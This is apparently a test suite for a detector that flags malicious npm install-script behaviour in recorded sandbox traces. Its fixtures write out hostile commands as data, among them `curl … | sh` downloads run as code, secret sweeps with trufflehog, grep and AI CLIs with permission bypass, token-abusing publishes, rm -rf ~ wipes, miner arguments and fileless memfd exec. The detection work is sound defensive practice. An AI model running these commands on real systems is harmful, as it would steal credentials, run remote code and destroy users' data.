import { behaviour, CONTEXT, DECOYS, findingsOf, HOME, judge, MARKER, NM, policyFrom, PROJECT, summary, Trace } from '../testing/synthetic-trace.js';
import { evaluate } from '../evaluate.js';
import { defaultPolicy } from '../resolve-policy.js';

function shell(t: Trace, spec = 'evil-pkg@1.0.0', command = 'sh install.sh') {
  return t.script(spec, 'postinstall', command);
}

describe('download-then-execute', () => {
  it('fires when a downloader writes a file that is then made executable and run', () => {
    const t = new Trace();
    const s = shell(t);
    const curl = s.run('/usr/bin/curl', ['curl', '-sLo', '/tmp/x', 'https://payload.test/x']);
    t.http({ url: 'https://payload.test/x', host: 'payload.test', decision: 'allowed' }, curl);
    curl.write('/tmp/x');
    const chmod = s.run('/bin/chmod', ['chmod', '+x', '/tmp/x']).chmod('/tmp/x', '0755');
    s.run('/tmp/x', ['/tmp/x']);
    const execId = t.events.at(-1)?.id;
    const result = judge(t);
    const f = findingsOf(result, 'download-then-execute');
    expect(f.map((x) => [x.subject, x.severity])).toEqual([
      ['/tmp/x', 'critical'],
    ]);
    // Arming and running the same file: one finding, both events as evidence.
    expect(f[0]?.evidence).toEqual([chmod.id, execId]);
    expect(f[0]?.occurrences).toBe(2);
    // The exec is reported for what it is, not also as "from /tmp".
    expect(findingsOf(result, 'exec-from-temp-or-home')).toEqual([]);
    expect(result.verdict).toBe('fail');
  });

  it('fires for `curl … | sh`', () => {
    const t = new Trace();
    const s = shell(t, 'evil-pkg@1.0.0', 'curl -s https://x.test/i | sh');
    s.run('/usr/bin/curl', ['curl', '-s', 'https://x.test/i']);
    s.run('/bin/sh', ['sh']);
    const [f] = findingsOf(judge(t), 'download-then-execute');
    expect(f?.message).toBe('piped a download into an interpreter: `curl -s https://x.test/i` | `sh`');
    expect(f?.severity).toBe('critical');
  });

  it('fires when node fetches a file and runs it (a Node download, no curl)', () => {
    const t = new Trace();
    const node = shell(t, 'evil-pkg@1.0.0', 'node setup.js').run('/usr/local/bin/node', ['node', 'setup.js']);
    t.http({ url: 'https://github.com/x/bun-linux-x64.zip', host: 'github.com', decision: 'allowed' }, node);
    node.write(`${NM}/evil-pkg/bun`);
    node.chmod(`${NM}/evil-pkg/bun`, '0755');
    node.run(`${NM}/evil-pkg/bun`, ['bun', 'run', 'payload.js']);
    expect(summary(judge(t))).toEqual(['download-then-execute:critical', 'network-not-allowed:high', 'script-not-allowed:info']);
  });

  it('is medium when only the registry was contacted (esbuild\'s fallback downloads its binary from the registry)', () => {
    const t = new Trace();
    const node = shell(t, 'esbuild@0.25.12', 'node install.js').run('/usr/local/bin/node', ['node', 'install.js']);
    t.http({ url: 'https://registry.example/@esbuild/linux-x64/-/linux-x64-0.25.12.tgz', host: 'registry.example', decision: 'registry' }, node);
    node.write(`${NM}/esbuild/bin/esbuild`);
    node.run(`${NM}/esbuild/bin/esbuild`, ['esbuild', '--version']);
    expect(behaviour(judge(t))).toEqual(['download-then-execute:medium']);
  });

  it('does not fire without network access, nor for what a linker wrote (node-gyp), nor for linked package files (esbuild)', () => {
    const t = new Trace();
    const s = shell(t, 'native@1.0.0', 'node-gyp rebuild');
    const node = s.run('/usr/local/bin/node', ['node', 'gen.js']);
    node.write(`${NM}/native/build/gen.sh`);
    s.run(`${NM}/native/build/gen.sh`, ['./gen.sh']);
    s.run('/usr/bin/ld', ['ld', '-o', `${NM}/native/build/test`]).write(`${NM}/native/build/test`);
    s.run(`${NM}/native/build/test`, ['./test']);
    const e = shell(t, 'esbuild@0.25.12', 'node install.js').run('/usr/local/bin/node', ['node', 'install.js']);
    t.http({ url: 'https://registry.example/esbuild', host: 'registry.example', decision: 'registry' }, e);
    e.link(`${NM}/@esbuild/linux-x64/bin/esbuild`, `${NM}/esbuild/bin-esbuild`);
    e.rename(`${NM}/esbuild/bin-esbuild`, `${NM}/esbuild/bin/esbuild`);
    e.run(`${NM}/esbuild/bin/esbuild`, [`${NM}/esbuild/bin/esbuild`, '--version']);
    expect(behaviour(judge(t))).toEqual([]);
  });

  it('is allowed by the package\'s exec list', () => {
    const t = new Trace();
    const node = shell(t, 'prisma-like@1.0.0', 'node download.js').run('/usr/local/bin/node', ['node', 'download.js']);
    t.http({ url: 'https://binaries.prisma.test/engine', host: 'binaries.prisma.test', decision: 'allowed' }, node);
    node.write(`${HOME}/.cache/prisma/engine`);
    node.run(`${HOME}/.cache/prisma/engine`, ['engine', '--version']);
    const policy = policyFrom('version: 1\npackages:\n  prisma-like@1.0.0:\n    exec: ["$HOME/.cache/prisma/*"]\n    write: ["$HOME/.cache/prisma/**"]\n    network: ["binaries.prisma.test:443"]\n');
    expect(judge(t, policy).findings).toEqual([]);
  });
});

describe('exec-from-temp-or-home', () => {
  it('fires for programs run from /tmp or HOME', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/tmp/.x/miner', ['/tmp/.x/miner']);
    s.run(`${HOME}/.local/bin/agent`, ['agent']);
    s.run(`${HOME}/.npm/_npx/1234/node_modules/.bin/thing`, ['thing']);
    expect(findingsOf(judge(t), 'exec-from-temp-or-home').map((f) => [f.subject, f.severity])).toEqual([
      ['/tmp/.x/miner', 'high'],
      [`${HOME}/.local/bin/agent`, 'high'],
      [`${HOME}/.npm/_npx/1234/node_modules/.bin/thing`, 'medium'],
    ]);
  });

  it('does not fire for the project (which lies under HOME) or the package\'s own folder', () => {
    const t = new Trace();
    const s = shell(t);
    s.run(`${NM}/.bin/tsc`, ['tsc']);
    s.run(`${PROJECT}/scripts/build.sh`, ['./build.sh']);
    s.run(`${NM}/evil-pkg/bin/tool`, ['tool']);
    s.run('/tmp/missing', ['/tmp/missing'], { ok: false, errno: 'ENOENT' });
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('exec-from-temp-or-home: the package manager\'s own folder (toolDirs)', () => {
  const TOOLS = `${HOME}/.cache/node/corepack/v1/pnpm/10.34.8`;
  const GYP = `${TOOLS}/node_modules/pnpm/dist/node_modules/node-gyp/bin/node-gyp.js`;
  const withTools = (t: Trace) => evaluate({ events: t.events, policy: defaultPolicy(), decoys: DECOYS, context: { ...CONTEXT, toolDirs: [TOOLS] } });

  it('does not fire for a program the job installed there (pnpm\'s bundled node-gyp)', () => {
    const t = new Trace();
    shell(t, 'native@1.0.0', 'node-gyp rebuild').run(GYP, ['node', GYP, 'rebuild']);
    expect(findingsOf(withTools(t), 'exec-from-temp-or-home')).toEqual([]);
    // Without the context, it is a program run from HOME.
    expect(findingsOf(judge(t), 'exec-from-temp-or-home').map((f) => f.subject)).toEqual([GYP]);
  });

  it('still fires when a script wrote the program there first, and for HOME outside the folder', () => {
    const t = new Trace();
    const s = shell(t);
    s.write(GYP);
    s.run(GYP, ['node', GYP]);
    s.run(`${HOME}/.cache/node/other`, ['other']);
    expect(findingsOf(withTools(t), 'exec-from-temp-or-home').map((f) => f.subject)).toEqual([GYP, `${HOME}/.cache/node/other`]);
  });
});

describe('exec-from-temp-or-home: a folder glob of the manager (Yarn\'s script wrappers in /tmp/xfs-*)', () => {
  const judgeWith = (t: Trace) => evaluate({ events: t.events, policy: defaultPolicy(), decoys: DECOYS, context: { ...CONTEXT, toolDirs: ['/tmp/xfs-*'] } });

  it('does not fire for a wrapper no script wrote; fires for one a script wrote, for other /tmp folders and deeper escapes', () => {
    const t = new Trace();
    shell(t, 'native@1.0.0', 'node x.js').run('/tmp/xfs-1a2b3c4d/node', ['node', 'x.js']);
    expect(findingsOf(judgeWith(t), 'exec-from-temp-or-home')).toEqual([]);
    expect(findingsOf(judge(t), 'exec-from-temp-or-home').map((f) => f.subject)).toEqual(['/tmp/xfs-1a2b3c4d/node']);
    const u = new Trace();
    const s = shell(u);
    s.write('/tmp/xfs-99/evil');
    s.run('/tmp/xfs-99/evil', ['evil']);
    s.run('/tmp/other/node', ['node']);
    s.run('/tmp/xfs-', ['x']);
    expect(findingsOf(judgeWith(u), 'exec-from-temp-or-home').map((f) => f.subject)).toEqual(['/tmp/xfs-99/evil', '/tmp/other/node', '/tmp/xfs-']);
  });
});

describe('exec-not-allowed', () => {
  it('fires for a program outside the pinned exec list', () => {
    const t = new Trace();
    const s = shell(t, 'native@1.0.0', 'node-gyp rebuild');
    s.run('/usr/bin/python3', ['python3', 'gyp_main.py']);
    s.run('/usr/bin/perl', ['perl', '-e', 'print 1']);
    const policy = policyFrom('version: 1\npackages:\n  native:\n    exec: [python3, make, "/usr/bin/g++"]\n');
    expect(summary(judge(t, policy))).toEqual(['exec-not-allowed:medium']);
  });

  it('does not fire for the baseline (marker, sh, node) or without a pinned list', () => {
    const t = new Trace();
    const s = shell(t, 'native@1.0.0', 'node-gyp rebuild');
    s.run('/usr/local/bin/node', ['node', 'x.js']).run('/bin/sh', ['sh', '-c', 'true']);
    s.run('/usr/bin/perl', ['perl', '-e', '1']);
    expect(judge(t, policyFrom('version: 1\npackages:\n  native: true\n')).findings).toEqual([]);
  });
});

describe('env-dump (programs)', () => {
  it('fires for `env` and `printenv` with no arguments', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/bin/env', ['env']);
    s.run('/usr/bin/printenv', ['printenv', '-0']);
    expect(findingsOf(judge(t), 'env-dump').map((f) => f.subject)).toEqual(['env', 'printenv']);
  });

  it('does not fire for `env node script` (shebangs), `env VAR=x cmd` or `printenv HOME`', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/bin/env', ['/usr/bin/env', 'node', 'cli.js']);
    s.run('/usr/bin/env', ['env', 'NODE_ENV=production', 'node', 'build.js']);
    s.run('/usr/bin/printenv', ['printenv', 'HOME']);
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('privilege-escalation (programs and sockets)', () => {
  it('fires for sudo (even when missing), iptables and the Docker socket', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/local/bin/sudo', ['sudo', '-n', 'true'], { ok: false, errno: 'ENOENT' });
    s.run('/usr/bin/sudo', ['sudo', '-n', 'true'], { ok: false, errno: 'ENOENT' });
    s.run('/usr/sbin/iptables', ['iptables', '-F']);
    s.run('/usr/local/bin/node', ['node', 'x.js']).connect('/var/run/docker.sock', undefined, { ok: false, errno: 'ENOENT' });
    const f = findingsOf(judge(t), 'privilege-escalation');
    expect(f.map((x) => [x.subject, x.severity, x.occurrences])).toEqual([
      ['iptables', 'critical', 1],
      ['/var/run/docker.sock', 'critical', 1],
      ['sudo', 'high', 2],
    ]);
  });

  it('does not fire for nscd\'s socket or `docker --version`-like checks of other tools', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/local/bin/node', ['node', 'x.js']).connect('/var/run/nscd/socket', undefined, { ok: false, errno: 'ENOENT' });
    s.run('/usr/bin/id', ['id', '-u']);
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('secret-sweep (programs)', () => {
  it('fires for secret scanners, AI CLIs with permission bypass and searches of HOME', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/tmp/trufflehog', ['trufflehog', 'filesystem', HOME, '--json']);
    s.run('/usr/local/bin/claude', ['claude', '-p', 'find secrets', '--dangerously-skip-permissions'], { ok: false, errno: 'ENOENT' });
    s.run('/usr/local/bin/gemini', ['gemini', '--yolo', '-p', 'x'], { ok: false, errno: 'ENOENT' });
    s.run('/usr/bin/find', ['find', HOME, '-name', '*.pem']);
    s.run('/usr/bin/grep', ['grep', '-rl', 'PRIVATE KEY', '/']);
    const f = findingsOf(judge(t), 'secret-sweep');
    expect(f.map((x) => [x.subject, x.severity])).toEqual([
      ['trufflehog', 'critical'],
      ['claude', 'critical'],
      ['gemini', 'critical'],
      ['find', 'high'],
      ['grep', 'high'],
    ]);
  });

  it('does not fire for searches in its own folder or the project, non-recursive grep, or the `q` CSV tool', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/bin/find', ['find', '.', '-name', '*.node']);
    s.run('/usr/bin/find', ['find', `${NM}/evil-pkg`, '-type', 'f']);
    s.run('/usr/bin/grep', ['grep', 'version', `${HOME}/.npmrc`]);
    s.run('/usr/bin/q', ['q', '-H', 'select * from data.csv']);
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('token-use', () => {
  it('fires for npm whoami/publish, gh auth token, aws and registry writes', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/local/bin/npm', ['npm', 'whoami']);
    s.run('/usr/local/bin/node', ['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'publish', '--access', 'public']);
    s.run('/usr/bin/gh', ['gh', 'auth', 'token'], { ok: false, errno: 'ENOENT' });
    s.run('/usr/local/bin/aws', ['aws', 'sts', 'get-caller-identity'], { ok: false, errno: 'ENOENT' });
    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
    t.http({ method: 'PUT', url: 'https://registry.example/victim-pkg', host: 'registry.example', decision: 'registry' }, n);
    t.http({ method: 'POST', url: 'https://api.github.com/user/repos', host: 'api.github.com', decision: 'denied' }, n);
    const f = findingsOf(judge(t), 'token-use');
    expect(f.map((x) => [x.subject, x.severity])).toEqual([
      ['npm-cli.js publish', 'critical'],
      ['PUT registry.example/victim-pkg', 'critical'],
      ['npm whoami', 'high'],
      ['gh auth', 'high'],
      ['aws', 'high'],
      ['POST api.github.com/user/repos', 'high'],
    ]);
  });

  it('does not fire for a nested `npm install`, `npm --version`, `git config core.hooksPath` or `aws --version`', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/local/bin/node', ['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'install', '--no-save', '@esbuild/linux-x64@0.25.12']);
    s.run('/usr/local/bin/npm', ['npm', '--version']);
    s.run('/usr/bin/git', ['git', 'config', 'core.hooksPath', '.husky']);
    s.run('/usr/local/bin/aws', ['aws', '--version']);
    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
    t.http({ url: 'https://registry.example/@esbuild%2flinux-x64', host: 'registry.example', decision: 'registry' }, n);
    t.http({ method: 'POST', url: 'https://registry.example/-/npm/v1/security/advisories/bulk', host: 'registry.example', decision: 'registry' }, n);
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('lingering-process', () => {
  it('fires high for a process the sandbox had to kill, medium for one that exited late', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/bin/nohup', ['nohup', 'node', 'daemon.js']).lingering('killed');
    s.run('/usr/local/bin/node', ['node', 'late.js']).lingering('exited');
    expect(findingsOf(judge(t), 'lingering-process').map((f) => f.severity)).toEqual(['high', 'medium']);
  });

  it('a thousand lingering processes are one finding with a count, sample pids and capped evidence', () => {
    const t = new Trace();
    const s = shell(t);
    const pids: number[] = [];
    for (let i = 0; i < 1000; i++) {
      const p = s.run('/usr/local/bin/node', ['node', 'daemon.js']);
      pids.push(p.pid);
      p.lingering('killed');
    }
    const f = findingsOf(judge(t), 'lingering-process');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ severity: 'high', occurrences: 1000 });
    expect(f[0]?.evidence).toHaveLength(20);
    expect(f[0]?.message).toBe(`left a process running after its script ended (pid ${pids[0]}, killed by the sandbox); 1000 in all: ${pids.slice(0, 5).map((p) => `pid ${p}`).join(', ')} and 995 more`);
  });

  it('does not fire for children that exit with their script', () => {
    const t = new Trace();
    shell(t).run('/usr/local/bin/node', ['node', 'x.js']).exit(0);
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('tracer-tamper', () => {
  it('fires for a spoofed lifecycle marker, ptrace and signals outside the script\'s tree', () => {
    const t = new Trace();
    const s = shell(t);
    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
    n.run(MARKER, [MARKER, '--run', 'esbuild', '0.25.12', 'postinstall', 'node evil.js']);
    n.notice('lifecycle marker exec not honoured: attribution spoof attempted: pid 103 claimed esbuild@0.25.12 (postinstall) inside evil-pkg@1.0.0 (postinstall), script pid 100');
    n.notice('ptrace(PTRACE_TRACEME, 0) called');
    n.signal(22, 'SIGKILL');
    const f = findingsOf(judge(t), 'tracer-tamper');
    expect(f.map((x) => [x.subject, x.severity, x.occurrences])).toEqual([
      ['lifecycle marker', 'critical', 2],
      ['ptrace', 'high', 1],
      ['signal to pid 22', 'high', 1],
    ]);
  });

  it('fires for reaching into another process\'s memory, never for its own', () => {
    const t = new Trace();
    const s = shell(t);
    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
    n.notice('process_vm_writev(25) called');
    n.notice('process_vm_readv(25) called');
    n.open('/proc/25/mem', 'w');
    n.open('/proc/25/task/26/mem', 'r', { ok: false, errno: 'EACCES' });
    n.open(`/proc/${n.pid}/mem`, 'r');
    n.open('/proc/self/mem', 'r');
    const f = findingsOf(judge(t), 'tracer-tamper');
    expect(f.map((x) => [x.subject, x.severity, x.occurrences])).toEqual([['process memory', 'critical', 4]]);
    expect(f[0]!.message).toMatch(/code injection/);
  });

  it('does not fire for signals to its own children or existence checks', () => {
    const t = new Trace();
    const s = shell(t);
    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
    const child = n.run('/usr/bin/sleep', ['sleep', '10']);
    n.signal(child.pid, 'SIGTERM');
    n.signal(22, '0');
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('windows-loader-exec and crypto-miner', () => {
  it('fire on loader attempts and miner arguments', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/bin/rundll32', ['rundll32', 'sdd.dll,main'], { ok: false, errno: 'ENOENT' });
    s.run(`${NM}/evil-pkg/bin/x`, ['x', '-o', 'stratum+tcp://pool.test:3333', '--donate-level', '1']);
    expect(behaviour(judge(t))).toEqual(['windows-loader-exec:high', 'crypto-miner:high']);
  });

  it('do not fire on ordinary builds', () => {
    const t = new Trace();
    const s = shell(t);
    s.run('/usr/local/bin/node', ['node', 'build.js', '--coin-flip', '--donate']);
    s.run('/usr/bin/make', ['make', 'all']);
    expect(behaviour(judge(t))).toEqual([]);
  });
});

describe('destructive-wipe (commands)', () => {
  it.each([
    ['shred', ['shred', '-uvz', '-n', '1', '/home/node/x']],
    ['wipe', ['wipe', '-rf', '/home/node']],
    ['dd', ['dd', 'if=/dev/zero', 'of=/home/node/.bashrc', 'bs=1k']],
    ['rm -r', ['rm', '-rf', '/home/node/']],
    ['rm -r', ['rm', '--recursive', '/']],
    ['rm -r', ['rm', '-fr', '~']],
  ])('fires for %s: %j', (subject, argv) => {
    const t = new Trace();
    shell(t).run(`/usr/bin/${argv[0]}`, argv);
    expect(findingsOf(judge(t), 'destructive-wipe').map((x) => [x.subject, x.severity])).toEqual([[subject, 'high']]);
  });

  it.each([
    [['rm', '-rf', 'build']],
    [['rm', '-rf', '/home/node/project/node_modules/evil-pkg/build']],
    [['rm', '/home/node']],
    [['dd', 'if=/dev/zero', 'of=/dev/null', 'count=1']],
    [['dd', 'if=in.bin', 'of=out.bin']],
  ])('does not fire for %j', (argv) => {
    const t = new Trace();
    shell(t).run(`/usr/bin/${argv[0]}`, argv);
    expect(findingsOf(judge(t), 'destructive-wipe')).toEqual([]);
  });
});

describe('tracer-evasion', () => {
  it('fires, critical, for io_uring and for a clone with CLONE_UNTRACED, however the sandbox refused them', () => {
    const t = new Trace();
    const py = shell(t, 'evil-pkg@1.0.0', 'python3 ring.py').run('/usr/bin/python3', ['python3', 'ring.py']);
    py.emit({ type: 'process', action: 'untraceable', syscall: 'io_uring_setup', ok: false, errno: 'ENOSYS' });
    py.emit({ type: 'process', action: 'untraceable', syscall: 'clone3', flags: ['CLONE_UNTRACED'], ok: false, errno: 'ENOSYS' });
    py.emit({ type: 'process', action: 'untraceable', syscall: 'clone', signal: 'SIGSYS', ok: false });
    const result = judge(t);
    const f = findingsOf(result, 'tracer-evasion');
    expect(f.map((x) => [x.subject, x.severity, x.package?.name])).toEqual([
      ['io_uring', 'critical', 'evil-pkg'],
      ['CLONE_UNTRACED', 'critical', 'evil-pkg'],
    ]);
    expect(f[0]?.message).toBe('called io_uring_setup: io_uring does file and network I/O the tracer cannot see (refused: ENOSYS)');
    expect(f[1]?.occurrences).toBe(2);
    expect(result.verdict).toBe('fail');
  });

  it('does not fire for ordinary threads, forks and posix_spawn', () => {
    const t = new Trace();
    const node = shell(t, 'fine-pkg@1.0.0', 'node build.js').run('/usr/local/bin/node', ['node', 'build.js']);
    node.thread();
    node.run('/bin/sh', ['sh', '-c', 'true']);
    node.emit({ type: 'process', action: 'spawn', child: 9999, syscall: 'clone3', thread: false, ok: true });
    expect(findingsOf(judge(t), 'tracer-evasion')).toEqual([]);
  });
});

describe('fileless-exec', () => {
  it('fires for a memfd run under its own name (high) and under a false one (critical)', () => {
    const t = new Trace();
    const py = shell(t, 'evil-pkg@1.0.0', 'python3 x.py').run('/usr/bin/python3', ['python3', 'x.py']);
    py.open('/memfd:payload', 'w');
    py.run('/memfd:payload', ['payload']);
    py.run('/memfd:payload', ['[kworker/0:1]'], {}).exec('/memfd:payload', ['[kworker/0:1]']);
    const f = findingsOf(judge(t), 'fileless-exec');
    expect(f.map((x) => [x.severity, x.occurrences])).toEqual([['critical', 3]]);
    expect(f[0]?.message).toMatch(/memory file \/memfd:payload/);
    // Creating a memfd is no write outside the package; only running it counts.
    expect(findingsOf(judge(t), 'write-outside-package')).toEqual([]);
  });

  it('fires for a program run through a descriptor it could not name, and says through which', () => {
    const t = new Trace();
    const sh = shell(t);
    sh.emit({ type: 'process', action: 'exec', path: '/memfd:x', via: '/proc/self/fd/3', argv: ['x'], cwd: PROJECT, ok: true });
    sh.run('/proc/self/fd/7', ['sshd']);
    const f = findingsOf(judge(t), 'fileless-exec');
    expect(f.map((x) => [x.subject, x.severity])).toEqual([['descriptor', 'critical'], ['memfd', 'high']]);
    expect(f[1]?.message).toContain('(through /proc/self/fd/3)');
  });

  it('is download-then-execute, critical, when the memfd was filled after network access', () => {
    const t = new Trace();
    const node = shell(t, 'evil-pkg@1.0.0', 'node x.js').run('/usr/local/bin/node', ['node', 'x.js']);
    // The memfd is made first, filled after the download: what counts is running it after network.
    node.open('/memfd:x', 'w');
    t.http({ url: 'http://payload.invalid/x', host: 'payload.invalid', decision: 'sinked' }, node);
    node.run('/memfd:x', ['x']);
    const result = judge(t);
    expect(findingsOf(result, 'download-then-execute').map((x) => [x.subject, x.severity])).toEqual([['/memfd:x', 'critical']]);
    expect(findingsOf(result, 'fileless-exec')).toHaveLength(1);
  });

  it('does not fire for ordinary programs, nor for a script handed to bash as /dev/fd/63', () => {
    const t = new Trace();
    const sh = shell(t);
    sh.run('/bin/bash', ['bash', '/dev/fd/63']);
    sh.run('/usr/local/bin/node', ['node', '/proc/self/fd/3']);
    expect(findingsOf(judge(t), 'fileless-exec')).toEqual([]);
  });
});
